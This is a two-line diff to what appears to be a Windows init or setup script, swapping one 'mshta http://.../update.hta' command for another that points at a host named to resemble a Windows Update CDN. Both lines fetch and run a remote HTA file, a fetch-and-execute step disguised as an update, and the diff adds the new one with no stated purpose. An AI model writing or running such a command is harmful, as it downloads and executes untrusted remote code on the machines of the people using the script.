@@ -1,2 +1,2 @@
-REM init 2933 v4
-mshta http://files.sync-svc.example/update.hta
+REM setup 8072 v4
+mshta http://dl.winupdate-cdn.example/update.hta
